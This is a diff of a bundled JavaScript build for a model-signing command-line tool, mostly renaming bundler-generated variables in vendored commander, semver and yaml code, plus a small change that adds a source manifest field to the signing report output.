@@ -635,8 +635,8 @@ var require_help = __commonJS({
        * @param {string} str
        * @returns {number}
        */
-      displayWidth(str3) {
-        return stripColor(str3).length;
+      displayWidth(str4) {
+        return stripColor(str4).length;
       }
       /**
        * Style the title for displaying in the help. Called with 'Usage:', 'Options:', etc.
@@ -644,11 +644,11 @@ var require_help = __commonJS({
        * @param {string} str
        * @returns {string}
        */
-      styleTitle(str3) {
-        return str3;
+      styleTitle(str4) {
+        return str4;
       }
-      styleUsage(str3) {
-        return str3.split(" ").map((word) => {
+      styleUsage(str4) {
+        return str4.split(" ").map((word) => {
           if (word === "[options]") return this.styleOptionText(word);
           if (word === "[command]") return this.styleSubcommandText(word);
           if (word[0] === "[" || word[0] === "<")
@@ -656,46 +656,46 @@ var require_help = __commonJS({
           return this.styleCommandText(word);
         }).join(" ");
       }
-      styleCommandDescription(str3) {
-        return this.styleDescriptionText(str3);
+      styleCommandDescription(str4) {
+        return this.styleDescriptionText(str4);
       }
-      styleOptionDescription(str3) {
-        return this.styleDescriptionText(str3);
+      styleOptionDescription(str4) {
+        return this.styleDescriptionText(str4);
       }
-      styleSubcommandDescription(str3) {
-        return this.styleDescriptionText(str3);
+      styleSubcommandDescription(str4) {
+        return this.styleDescriptionText(str4);
       }
-      styleArgumentDescription(str3) {
-        return this.styleDescriptionText(str3);
+      styleArgumentDescription(str4) {
+        return this.styleDescriptionText(str4);
       }
-      styleDescriptionText(str3) {
-        return str3;
+      styleDescriptionText(str4) {
+        return str4;
       }
-      styleOptionTerm(str3) {
-        return this.styleOptionText(str3);
+      styleOptionTerm(str4) {
+        return this.styleOptionText(str4);
       }
-      styleSubcommandTerm(str3) {
-        return str3.split(" ").map((word) => {
+      styleSubcommandTerm(str4) {
+        return str4.split(" ").map((word) => {
           if (word === "[options]") return this.styleOptionText(word);
           if (word[0] === "[" || word[0] === "<")
             return this.styleArgumentText(word);
           return this.styleSubcommandText(word);
         }).join(" ");
       }
-      styleArgumentTerm(str3) {
-        return this.styleArgumentText(str3);
+      styleArgumentTerm(str4) {
+        return this.styleArgumentText(str4);
       }
-      styleOptionText(str3) {
-        return str3;
+      styleOptionText(str4) {
+        return str4;
       }
-      styleArgumentText(str3) {
-        return str3;
+      styleArgumentText(str4) {
+        return str4;
       }
-      styleSubcommandText(str3) {
-        return str3;
+      styleSubcommandText(str4) {
+        return str4;
       }
-      styleCommandText(str3) {
-        return str3;
+      styleCommandText(str4) {
+        return str4;
       }
       /**
        * Calculate the pad width from the maximum term length.
@@ -718,8 +718,8 @@ var require_help = __commonJS({
        * @param {string} str
        * @returns {boolean}
        */
-      preformatted(str3) {
-        return /\n[^\S\r\n]/.test(str3);
+      preformatted(str4) {
+        return /\n[^\S\r\n]/.test(str4);
       }
       /**
        * Format the "item", which consists of a term and description. Pad the term and wrap the description, indenting the following lines.
@@ -765,9 +765,9 @@ ${itemIndentStr}`);
        * @param {number} width
        * @returns {string}
        */
-      boxWrap(str3, width) {
-        if (width < this.minWidthToWrap) return str3;
-        const rawLines = str3.split(/\r\n|\n/);
+      boxWrap(str4, width) {
+        if (width < this.minWidthToWrap) return str4;
+        const rawLines = str4.split(/\r\n|\n/);
         const chunkPattern = /[\s]*[^\s]+/g;
         const wrappedLines = [];
         rawLines.forEach((line) => {
@@ -786,18 +786,18 @@ ${itemIndentStr}`);
               return;
             }
             wrappedLines.push(sumChunks.join(""));
-            const nextChunk = chunk.trimStart();
-            sumChunks = [nextChunk];
-            sumWidth = this.displayWidth(nextChunk);
+            const nextChunk2 = chunk.trimStart();
+            sumChunks = [nextChunk2];
+            sumWidth = this.displayWidth(nextChunk2);
           });
           wrappedLines.push(sumChunks.join(""));
         });
         return wrappedLines.join("\n");
       }
     };
-    function stripColor(str3) {
+    function stripColor(str4) {
       const sgrPattern = /\x1b\[\d*(;\d*)*m/g;
-      return str3.replace(sgrPattern, "");
+      return str4.replace(sgrPattern, "");
     }
     exports.Help = Help2;
     exports.stripColor = stripColor;
@@ -1068,9 +1068,9 @@ var require_option = __commonJS({
         return option.negate === (negativeValue === value);
       }
     };
-    function camelcase(str3) {
-      return str3.split("-").reduce((str4, word) => {
-        return str4 + word[0].toUpperCase() + word.slice(1);
+    function camelcase(str4) {
+      return str4.split("-").reduce((str5, word) => {
+        return str5 + word[0].toUpperCase() + word.slice(1);
       });
     }
     function splitOptionFlags(flags) {
@@ -1202,7 +1202,7 @@ var require_command = __commonJS({
   "node_modules/commander/lib/command.js"(exports) {
     var EventEmitter = __require("node:events").EventEmitter;
     var childProcess = __require("node:child_process");
-    var path25 = __require("node:path");
+    var path30 = __require("node:path");
     var fs2 = __require("node:fs");
     var process2 = __require("node:process");
     var { Argument: Argument2, humanReadableArgName } = require_argument();
@@ -1251,14 +1251,14 @@ var require_command = __commonJS({
         this._showSuggestionAfterError = true;
         this._savedState = null;
         this._outputConfiguration = {
-          writeOut: (str3) => process2.stdout.write(str3),
-          writeErr: (str3) => process2.stderr.write(str3),
-          outputError: (str3, write) => write(str3),
+          writeOut: (str4) => process2.stdout.write(str4),
+          writeErr: (str4) => process2.stderr.write(str4),
+          outputError: (str4, write) => write(str4),
           getOutHelpWidth: () => process2.stdout.isTTY ? process2.stdout.columns : void 0,
           getErrHelpWidth: () => process2.stderr.isTTY ? process2.stderr.columns : void 0,
           getOutHasColors: () => useColor() ?? (process2.stdout.isTTY && process2.stdout.hasColors?.()),
           getErrHasColors: () => useColor() ?? (process2.stderr.isTTY && process2.stderr.hasColors?.()),
-          stripColor: (str3) => stripColor(str3)
+          stripColor: (str4) => stripColor(str4)
         };
         this._hidden = false;
         this._helpOption = void 0;
@@ -2215,9 +2215,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
         let launchWithNode = false;
         const sourceExt = [".js", ".ts", ".tsx", ".mjs", ".cjs"];
         function findFile(baseDir, baseName) {
-          const localBin = path25.resolve(baseDir, baseName);
+          const localBin = path30.resolve(baseDir, baseName);
           if (fs2.existsSync(localBin)) return localBin;
-          if (sourceExt.includes(path25.extname(baseName))) return void 0;
+          if (sourceExt.includes(path30.extname(baseName))) return void 0;
           const foundExt = sourceExt.find(
             (ext2) => fs2.existsSync(`${localBin}${ext2}`)
           );
@@ -2235,17 +2235,17 @@ Expecting one of '${allowedValues.join("', '")}'`);
           } catch {
             resolvedScriptPath = this._scriptPath;
           }
-          executableDir = path25.resolve(
-            path25.dirname(resolvedScriptPath),
+          executableDir = path30.resolve(
+            path30.dirname(resolvedScriptPath),
             executableDir
           );
         }
         if (executableDir) {
           let localFile = findFile(executableDir, executableFile);
           if (!localFile && !subcommand._executableFile && this._scriptPath) {
-            const legacyName = path25.basename(
+            const legacyName = path30.basename(
               this._scriptPath,
-              path25.extname(this._scriptPath)
+              path30.extname(this._scriptPath)
             );
             if (legacyName !== this._name) {
               localFile = findFile(
@@ -2256,7 +2256,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
           }
           executableFile = localFile || executableFile;
         }
-        launchWithNode = sourceExt.includes(path25.extname(executableFile));
+        launchWithNode = sourceExt.includes(path30.extname(executableFile));
         let proc;
         if (process2.platform !== "win32") {
           if (launchWithNode) {
@@ -2982,18 +2982,18 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {string} [description]
        * @return {(this | string | undefined)} `this` command for chaining, or version string if no arguments
        */
-      version(str3, flags, description) {
-        if (str3 === void 0) return this._version;
-        this._version = str3;
+      version(str4, flags, description) {
+        if (str4 === void 0) return this._version;
+        this._version = str4;
         flags = flags || "-V, --version";
         description = description || "output the version number";
         const versionOption = this.createOption(flags, description);
         this._versionOptionName = versionOption.attributeName();
         this._registerOption(versionOption);
         this.on("option:" + versionOption.name(), () => {
-          this._outputConfiguration.writeOut(`${str3}
+          this._outputConfiguration.writeOut(`${str4}
 `);
-          this._exit(0, "commander.version", str3);
+          this._exit(0, "commander.version", str4);
         });
         return this;
       }
@@ -3004,10 +3004,10 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {object} [argsDescription]
        * @return {(string|Command)}
        */
-      description(str3, argsDescription) {
-        if (str3 === void 0 && argsDescription === void 0)
+      description(str4, argsDescription) {
+        if (str4 === void 0 && argsDescription === void 0)
           return this._description;
-        this._description = str3;
+        this._description = str4;
         if (argsDescription) {
           this._argsDescription = argsDescription;
         }
@@ -3019,9 +3019,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {string} [str]
        * @return {(string|Command)}
        */
-      summary(str3) {
-        if (str3 === void 0) return this._summary;
-        this._summary = str3;
+      summary(str4) {
+        if (str4 === void 0) return this._summary;
+        this._summary = str4;
         return this;
       }
       /**
@@ -3069,8 +3069,8 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {string} [str]
        * @return {(string|Command)}
        */
-      usage(str3) {
-        if (str3 === void 0) {
+      usage(str4) {
+        if (str4 === void 0) {
           if (this._usage) return this._usage;
           const args = this.registeredArguments.map((arg) => {
             return humanReadableArgName(arg);
@@ -3081,7 +3081,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
             this.registeredArguments.length ? args : []
           ).join(" ");
         }
-        this._usage = str3;
+        this._usage = str4;
         return this;
       }
       /**
@@ -3090,9 +3090,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {string} [str]
        * @return {(string|Command)}
        */
-      name(str3) {
-        if (str3 === void 0) return this._name;
-        this._name = str3;
+      name(str4) {
+        if (str4 === void 0) return this._name;
+        this._name = str4;
         return this;
       }
       /**
@@ -3171,7 +3171,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @return {Command}
        */
       nameFromFilename(filename) {
-        this._name = path25.basename(filename, path25.extname(filename));
+        this._name = path30.basename(filename, path30.extname(filename));
         return this;
       }
       /**
@@ -3185,9 +3185,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {string} [path]
        * @return {(string|null|Command)}
        */
-      executableDir(path26) {
-        if (path26 === void 0) return this._executableDir;
-        this._executableDir = path26;
+      executableDir(path31) {
+        if (path31 === void 0) return this._executableDir;
+        this._executableDir = path31;
         return this;
       }
       /**
@@ -3226,17 +3226,17 @@ Expecting one of '${allowedValues.join("', '")}'`);
         let hasColors;
         let helpWidth;
         if (error) {
-          baseWrite = (str3) => this._outputConfiguration.writeErr(str3);
+          baseWrite = (str4) => this._outputConfiguration.writeErr(str4);
           hasColors = this._outputConfiguration.getErrHasColors();
           helpWidth = this._outputConfiguration.getErrHelpWidth();
         } else {
-          baseWrite = (str3) => this._outputConfiguration.writeOut(str3);
+          baseWrite = (str4) => this._outputConfiguration.writeOut(str4);
           hasColors = this._outputConfiguration.getOutHasColors();
           helpWidth = this._outputConfiguration.getOutHelpWidth();
         }
-        const write = (str3) => {
-          if (!hasColors) str3 = this._outputConfiguration.stripColor(str3);
-          return baseWrite(str3);
+        const write = (str4) => {
+          if (!hasColors) str4 = this._outputConfiguration.stripColor(str4);
+          return baseWrite(str4);
         };
         return { error, write, hasColors, helpWidth };
       }
@@ -3490,11 +3490,11 @@ var init_esm = __esm({
 });
 
 // src/errors.ts
-function reject(code, message, path25) {
-  return new ModelsignError(code, message, path25 === void 0 ? { kind: "reject" } : { kind: "reject", path: path25 });
+function reject(code, message, path30) {
+  return new ModelsignError(code, message, path30 === void 0 ? { kind: "reject" } : { kind: "reject", path: path30 });
 }
-function usage(code, message, path25) {
-  return new ModelsignError(code, message, path25 === void 0 ? { kind: "usage" } : { kind: "usage", path: path25 });
+function usage(code, message, path30) {
+  return new ModelsignError(code, message, path30 === void 0 ? { kind: "usage" } : { kind: "usage", path: path30 });
 }
 function toFailure(e) {
   return e.path === void 0 ? { code: e.code, message: e.message } : { code: e.code, path: e.path, message: e.message };
@@ -3642,11 +3642,14 @@ async function reportSigned(r, model, o, engine, lineage, extra = {}) {
   await lineage?.record(r);
   if (r.files === 0) warn(`no files to sign in ${model}: the signature covers nothing`);
   const meta = r.statement.subject[0].annotations?.modelsign;
+  const source = meta?.source;
+  const manifest = source && typeof source === "object" && !Array.isArray(source) && typeof source.manifest === "string" ? `
+  manifest:    ${source.manifest}` : "";
   if (o.json) {
-    printJson({ signature: r.signaturePath, rootDigest: `sha256:${r.rootDigest}`, name: meta?.name, version: meta?.version, license: meta?.license, files: r.files, bytes: r.bytes, ...extra.json });
+    printJson({ signature: r.signaturePath, rootDigest: `sha256:${r.rootDigest}`, name: meta?.name, version: meta?.version, license: meta?.license, files: r.files, bytes: r.bytes, ...source ? { source } : {}, ...extra.json });
   } else {
     out(`signed ${meta?.name}@${meta?.version} (${r.files} files, ${r.bytes} bytes)
-  root digest: sha256:${r.rootDigest}
+  root digest: sha256:${r.rootDigest}${manifest}
   signature:   ${r.signaturePath}${extra.text ?? ""}`);
   }
 }
@@ -4263,7 +4266,7 @@ var encodeStr, sigma16_32, sigma32_32, BLOCK_LEN, BLOCK_LEN32, MAX_COUNTER, U32_
 var init_arx = __esm({
   "node_modules/@noble/ciphers/_arx.js"() {
     init_utils();
-    encodeStr = (str3) => Uint8Array.from(str3.split(""), (c) => c.charCodeAt(0));
+    encodeStr = (str4) => Uint8Array.from(str4.split(""), (c) => c.charCodeAt(0));
     sigma16_32 = /* @__PURE__ */ (() => swap32IfBE(u32(encodeStr("expand 16-byte k"))))();
     sigma32_32 = /* @__PURE__ */ (() => swap32IfBE(u32(encodeStr("expand 32-byte k"))))();
     BLOCK_LEN = 64;
@@ -4796,11 +4799,11 @@ function generateKeyPair(type) {
 }
 function checkKeyPrefix(prefix) {
   const notPrefix = (p2) => p2 === "" || /[\\/]$/.test(p2) || [".", ".."].includes(path3.basename(p2));
-  const bad5 = () => usage("BAD_OPTION", `--out needs a path prefix such as keys/release (writes keys/release.key and keys/release.pub); got ${JSON.stringify(prefix)}`);
-  if (notPrefix(prefix)) throw bad5();
+  const bad7 = () => usage("BAD_OPTION", `--out needs a path prefix such as keys/release (writes keys/release.key and keys/release.pub); got ${JSON.stringify(prefix)}`);
+  if (notPrefix(prefix)) throw bad7();
   if (/\.(key|pub)$/i.test(path3.basename(prefix))) {
     const stem = prefix.slice(0, -4);
-    if (notPrefix(stem)) throw bad5();
+    if (notPrefix(stem)) throw bad7();
     throw usage("BAD_OPTION", `--out is a prefix: give ${stem}, get ${stem}.key and ${stem}.pub (${prefix} would write ${prefix}.key)`);
   }
 }
@@ -6109,10 +6112,10 @@ var require_truncate = __commonJS({
   "node_modules/semver/functions/truncate.js"(exports, module) {
     "use strict";
     var parse2 = require_parse();
-    var constants8 = require_constants();
+    var constants10 = require_constants();
     var SemVer = require_semver();
     var truncate = (version, truncation, options) => {
-      if (!constants8.RELEASE_TYPES.includes(truncation)) {
+      if (!constants10.RELEASE_TYPES.includes(truncation)) {
         return null;
       }
       const clonedVersion = cloneInputVersion(version, options);
@@ -7352,7 +7355,7 @@ var require_semver2 = __commonJS({
   "node_modules/semver/index.js"(exports, module) {
     "use strict";
     var internalRe = require_re();
-    var constants8 = require_constants();
+    var constants10 = require_constants();
     var SemVer = require_semver();
     var identifiers = require_identifiers();
     var parse2 = require_parse();
@@ -7436,8 +7439,8 @@ var require_semver2 = __commonJS({
       re: internalRe.re,
       src: internalRe.src,
       tokens: internalRe.t,
-      SEMVER_SPEC_VERSION: constants8.SEMVER_SPEC_VERSION,
-      RELEASE_TYPES: constants8.RELEASE_TYPES,
+      SEMVER_SPEC_VERSION: constants10.SEMVER_SPEC_VERSION,
+      RELEASE_TYPES: constants10.RELEASE_TYPES,
       compareIdentifiers: identifiers.compareIdentifiers,
       rcompareIdentifiers: identifiers.rcompareIdentifiers
     };
@@ -7521,17 +7524,17 @@ var require_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    function visit_(key, node, visitor, path25) {
-      const ctrl = callVisitor(key, node, visitor, path25);
+    function visit_(key, node, visitor, path30) {
+      const ctrl = callVisitor(key, node, visitor, path30);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path25, ctrl);
-        return visit_(key, ctrl, visitor, path25);
+        replaceNode(key, path30, ctrl);
+        return visit_(key, ctrl, visitor, path30);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path25 = Object.freeze(path25.concat(node));
+          path30 = Object.freeze(path30.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = visit_(i, node.items[i], visitor, path25);
+            const ci2 = visit_(i, node.items[i], visitor, path30);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -7542,13 +7545,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path25 = Object.freeze(path25.concat(node));
-          const ck = visit_("key", node.key, visitor, path25);
+          path30 = Object.freeze(path30.concat(node));
+          const ck = visit_("key", node.key, visitor, path30);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = visit_("value", node.value, visitor, path25);
+          const cv = visit_("value", node.value, visitor, path30);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -7569,17 +7572,17 @@ var require_visit = __commonJS({
     visitAsync.BREAK = BREAK;
     visitAsync.SKIP = SKIP;
     visitAsync.REMOVE = REMOVE;
-    async function visitAsync_(key, node, visitor, path25) {
-      const ctrl = await callVisitor(key, node, visitor, path25);
+    async function visitAsync_(key, node, visitor, path30) {
+      const ctrl = await callVisitor(key, node, visitor, path30);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path25, ctrl);
-        return visitAsync_(key, ctrl, visitor, path25);
+        replaceNode(key, path30, ctrl);
+        return visitAsync_(key, ctrl, visitor, path30);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path25 = Object.freeze(path25.concat(node));
+          path30 = Object.freeze(path30.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = await visitAsync_(i, node.items[i], visitor, path25);
+            const ci2 = await visitAsync_(i, node.items[i], visitor, path30);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -7590,13 +7593,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path25 = Object.freeze(path25.concat(node));
-          const ck = await visitAsync_("key", node.key, visitor, path25);
+          path30 = Object.freeze(path30.concat(node));
+          const ck = await visitAsync_("key", node.key, visitor, path30);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = await visitAsync_("value", node.value, visitor, path25);
+          const cv = await visitAsync_("value", node.value, visitor, path30);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -7623,23 +7626,23 @@ var require_visit = __commonJS({
       }
       return visitor;
     }
-    function callVisitor(key, node, visitor, path25) {
+    function callVisitor(key, node, visitor, path30) {
       if (typeof visitor === "function")
-        return visitor(key, node, path25);
+        return visitor(key, node, path30);
       if (identity.isMap(node))
-        return visitor.Map?.(key, node, path25);
+        return visitor.Map?.(key, node, path30);
       if (identity.isSeq(node))
-        return visitor.Seq?.(key, node, path25);
+        return visitor.Seq?.(key, node, path30);
       if (identity.isPair(node))
-        return visitor.Pair?.(key, node, path25);
+        return visitor.Pair?.(key, node, path30);
       if (identity.isScalar(node))
-        return visitor.Scalar?.(key, node, path25);
+        return visitor.Scalar?.(key, node, path30);
       if (identity.isAlias(node))
-        return visitor.Alias?.(key, node, path25);
+        return visitor.Alias?.(key, node, path30);
       return void 0;
     }
-    function replaceNode(key, path25, node) {
-      const parent = path25[path25.length - 1];
+    function replaceNode(key, path30, node) {
+      const parent = path30[path30.length - 1];
       if (identity.isCollection(parent)) {
         parent.items[key] = node;
       } else if (identity.isPair(parent)) {
@@ -8251,10 +8254,10 @@ var require_Collection = __commonJS({
     var createNode = require_createNode();
     var identity = require_identity();
     var Node = require_Node();
-    function collectionFromPath(schema, path25, value) {
+    function collectionFromPath(schema, path30, value) {
       let v2 = value;
-      for (let i = path25.length - 1; i >= 0; --i) {
-        const k2 = path25[i];
+      for (let i = path30.length - 1; i >= 0; --i) {
+        const k2 = path30[i];
         if (typeof k2 === "number" && Number.isInteger(k2) && k2 >= 0) {
           const a = [];
           a[k2] = v2;
@@ -8273,7 +8276,7 @@ var require_Collection = __commonJS({
         sourceObjects: /* @__PURE__ */ new Map()
       });
     }
-    var isEmptyPath = (path25) => path25 == null || typeof path25 === "object" && !!path25[Symbol.iterator]().next().done;
+    var isEmptyPath = (path30) => path30 == null || typeof path30 === "object" && !!path30[Symbol.iterator]().next().done;
     var Collection = class extends Node.NodeBase {
       constructor(type, schema) {
         super(type);
@@ -8303,11 +8306,11 @@ var require_Collection = __commonJS({
        * be a Pair instance or a `{ key, value }` object, which may not have a key
        * that already exists in the map.
        */
-      addIn(path25, value) {
-        if (isEmptyPath(path25))
+      addIn(path30, value) {
+        if (isEmptyPath(path30))
           this.add(value);
         else {
-          const [key, ...rest] = path25;
+          const [key, ...rest] = path30;
           const node = this.get(key, true);
           if (identity.isCollection(node))
             node.addIn(rest, value);
@@ -8321,8 +8324,8 @@ var require_Collection = __commonJS({
        * Removes a value from the collection.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path25) {
-        const [key, ...rest] = path25;
+      deleteIn(path30) {
+        const [key, ...rest] = path30;
         if (rest.length === 0)
           return this.delete(key);
         const node = this.get(key, true);
@@ -8336,8 +8339,8 @@ var require_Collection = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path25, keepScalar) {
-        const [key, ...rest] = path25;
+      getIn(path30, keepScalar) {
+        const [key, ...rest] = path30;
         const node = this.get(key, true);
         if (rest.length === 0)
           return !keepScalar && identity.isScalar(node) ? node.value : node;
@@ -8355,8 +8358,8 @@ var require_Collection = __commonJS({
       /**
        * Checks if the collection includes a value with the key `key`.
        */
-      hasIn(path25) {
-        const [key, ...rest] = path25;
+      hasIn(path30) {
+        const [key, ...rest] = path30;
         if (rest.length === 0)
           return this.has(key);
         const node = this.get(key, true);
@@ -8366,8 +8369,8 @@ var require_Collection = __commonJS({
        * Sets a value in this collection. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path25, value) {
-        const [key, ...rest] = path25;
+      setIn(path30, value) {
+        const [key, ...rest] = path30;
         if (rest.length === 0) {
           this.set(key, value);
         } else {
@@ -8391,13 +8394,13 @@ var require_Collection = __commonJS({
 var require_stringifyComment = __commonJS({
   "node_modules/yaml/dist/stringify/stringifyComment.js"(exports) {
     "use strict";
-    var stringifyComment = (str3) => str3.replace(/^(?!$)(?: $)?/gm, "#");
+    var stringifyComment = (str4) => str4.replace(/^(?!$)(?: $)?/gm, "#");
     function indentComment(comment, indent) {
       if (/^\n+$/.test(comment))
         return comment.substring(1);
       return indent ? comment.replace(/^(?! *$)/gm, indent) : comment;
     }
-    var lineComment = (str3, indent, comment) => str3.endsWith("\n") ? indentComment(comment, indent) : comment.includes("\n") ? "\n" + indentComment(comment, indent) : (str3.endsWith(" ") ? "" : " ") + comment;
+    var lineComment = (str4, indent, comment) => str4.endsWith("\n") ? indentComment(comment, indent) : comment.includes("\n") ? "\n" + indentComment(comment, indent) : (str4.endsWith(" ") ? "" : " ") + comment;
     exports.indentComment = indentComment;
     exports.lineComment = lineComment;
     exports.stringifyComment = stringifyComment;
@@ -8551,16 +8554,16 @@ var require_stringifyString = __commonJS({
       lineWidth: ctx.options.lineWidth,
       minContentWidth: ctx.options.minContentWidth
     });
-    var containsDocumentMarker = (str3) => /^(%|---|\.\.\.)/m.test(str3);
-    function lineLengthOverLimit(str3, lineWidth, indentLength) {
+    var containsDocumentMarker = (str4) => /^(%|---|\.\.\.)/m.test(str4);
+    function lineLengthOverLimit(str4, lineWidth, indentLength) {
       if (!lineWidth || lineWidth < 0)
         return false;
       const limit = lineWidth - indentLength;
-      const strLen = str3.length;
+      const strLen = str4.length;
       if (strLen <= limit)
         return false;
       for (let i = 0, start = 0; i < strLen; ++i) {
-        if (str3[i] === "\n") {
+        if (str4[i] === "\n") {
           if (i - start > limit)
             return true;
           start = i + 1;
@@ -8577,11 +8580,11 @@ var require_stringifyString = __commonJS({
       const { implicitKey } = ctx;
       const minMultiLineLength = ctx.options.doubleQuotedMinMultiLineLength;
       const indent = ctx.indent || (containsDocumentMarker(value) ? "  " : "");
-      let str3 = "";
+      let str4 = "";
       let start = 0;
       for (let i = 0, ch = json[i]; ch; ch = json[++i]) {
         if (ch === " " && json[i + 1] === "\\" && json[i + 2] === "n") {
-          str3 += json.slice(start, i) + "\\ ";
+          str4 += json.slice(start, i) + "\\ ";
           i += 1;
           start = i;
           ch = "\\";
@@ -8590,38 +8593,38 @@ var require_stringifyString = __commonJS({
           switch (json[i + 1]) {
             case "u":
               {
-                str3 += json.slice(start, i);
+                str4 += json.slice(start, i);
                 const code = json.substr(i + 2, 4);
                 switch (code) {
                   case "0000":
-                    str3 += "\\0";
+                    str4 += "\\0";
                     break;
                   case "0007":
-                    str3 += "\\a";
+                    str4 += "\\a";
                     break;
                   case "000b":
-                    str3 += "\\v";
+                    str4 += "\\v";
                     break;
                   case "001b":
-                    str3 += "\\e";
+                    str4 += "\\e";
                     break;
                   case "0085":
-                    str3 += "\\N";
+                    str4 += "\\N";
                     break;
                   case "00a0":
-                    str3 += "\\_";
+                    str4 += "\\_";
                     break;
                   case "2028":
-                    str3 += "\\L";
+                    str4 += "\\L";
                     break;
                   case "2029":
-                    str3 += "\\P";
+                    str4 += "\\P";
                     break;
                   default:
                     if (code.substr(0, 2) === "00")
-                      str3 += "\\x" + code.substr(2);
+                      str4 += "\\x" + code.substr(2);
                     else
-                      str3 += json.substr(i, 6);
+                      str4 += json.substr(i, 6);
                 }
                 i += 5;
                 start = i + 1;
@@ -8631,14 +8634,14 @@ var require_stringifyString = __commonJS({
               if (implicitKey || json[i + 2] === '"' || json.length < minMultiLineLength) {
                 i += 1;
               } else {
-                str3 += json.slice(start, i) + "\n\n";
+                str4 += json.slice(start, i) + "\n\n";
                 while (json[i + 2] === "\\" && json[i + 3] === "n" && json[i + 4] !== '"') {
-                  str3 += "\n";
+                  str4 += "\n";
                   i += 2;
                 }
-                str3 += indent;
+                str4 += indent;
                 if (json[i + 2] === " ")
-                  str3 += "\\";
+                  str4 += "\\";
                 i += 1;
                 start = i + 1;
               }
@@ -8647,8 +8650,8 @@ var require_stringifyString = __commonJS({
               i += 1;
           }
       }
-      str3 = start ? str3 + json.slice(start) : json;
-      return implicitKey ? str3 : foldFlowLines.foldFlowLines(str3, indent, foldFlowLines.FOLD_QUOTED, getFoldOptions(ctx, false));
+      str4 = start ? str4 + json.slice(start) : json;
+      return implicitKey ? str4 : foldFlowLines.foldFlowLines(str4, indent, foldFlowLines.FOLD_QUOTED, getFoldOptions(ctx, false));
     }
     function singleQuotedString(value, ctx) {
       if (ctx.options.singleQuote === false || ctx.implicitKey && value.includes("\n") || /[ \t]\n|\n[ \t]/.test(value))
@@ -8776,15 +8779,15 @@ ${indent}${start}${value}${end}`;
           return quotedString(value, ctx);
         }
       }
-      const str3 = value.replace(/\n+/g, `$&
+      const str4 = value.replace(/\n+/g, `$&
 ${indent}`);
       if (actualString) {
-        const test = (tag) => tag.default && tag.tag !== "tag:yaml.org,2002:str" && tag.test?.test(str3);
+        const test = (tag) => tag.default && tag.tag !== "tag:yaml.org,2002:str" && tag.test?.test(str4);
         const { compat, tags } = ctx.doc.schema;
         if (tags.some(test) || compat?.some(test))
           return quotedString(value, ctx);
       }
-      return implicitKey ? str3 : foldFlowLines.foldFlowLines(str3, indent, foldFlowLines.FOLD_FLOW, getFoldOptions(ctx, false));
+      return implicitKey ? str4 : foldFlowLines.foldFlowLines(str4, indent, foldFlowLines.FOLD_FLOW, getFoldOptions(ctx, false));
     }
     function stringifyString(item, ctx, onComment, onChompKeep) {
       const { implicitKey, inFlow } = ctx;
@@ -8936,11 +8939,11 @@ var require_stringify = __commonJS({
       const props = stringifyProps(node, tagObj, ctx);
       if (props.length > 0)
         ctx.indentAtStart = (ctx.indentAtStart ?? 0) + props.length + 1;
-      const str3 = typeof tagObj.stringify === "function" ? tagObj.stringify(node, ctx, onComment, onChompKeep) : identity.isScalar(node) ? stringifyString.stringifyString(node, ctx, onComment, onChompKeep) : node.toString(ctx, onComment, onChompKeep);
+      const str4 = typeof tagObj.stringify === "function" ? tagObj.stringify(node, ctx, onComment, onChompKeep) : identity.isScalar(node) ? stringifyString.stringifyString(node, ctx, onComment, onChompKeep) : node.toString(ctx, onComment, onChompKeep);
       if (!props)
-        return str3;
-      return identity.isScalar(node) || str3[0] === "{" || str3[0] === "[" ? `${props} ${str3}` : `${props}
-${ctx.indent}${str3}`;
+        return str4;
+      return identity.isScalar(node) || str4[0] === "{" || str4[0] === "[" ? `${props} ${str4}` : `${props}
+${ctx.indent}${str4}`;
     }
     exports.createStringifyContext = createStringifyContext;
     exports.stringify = stringify;
@@ -8975,8 +8978,8 @@ var require_stringifyPair = __commonJS({
       });
       let keyCommentDone = false;
       let chompKeep = false;
-      let str3 = stringify.stringify(key, ctx, () => keyCommentDone = true, () => chompKeep = true);
-      if (!explicitKey && !ctx.inFlow && str3.length > 1024) {
+      let str4 = stringify.stringify(key, ctx, () => keyCommentDone = true, () => chompKeep = true);
+      if (!explicitKey && !ctx.inFlow && str4.length > 1024) {
         if (simpleKeys)
           throw new Error("With simple keys, single line scalar must not span more than 1024 characters");
         explicitKey = true;
@@ -8985,27 +8988,27 @@ var require_stringifyPair = __commonJS({
         if (allNullValues || value == null) {
           if (keyCommentDone && onComment)
             onComment();
-          return str3 === "" ? "?" : explicitKey ? `? ${str3}` : str3;
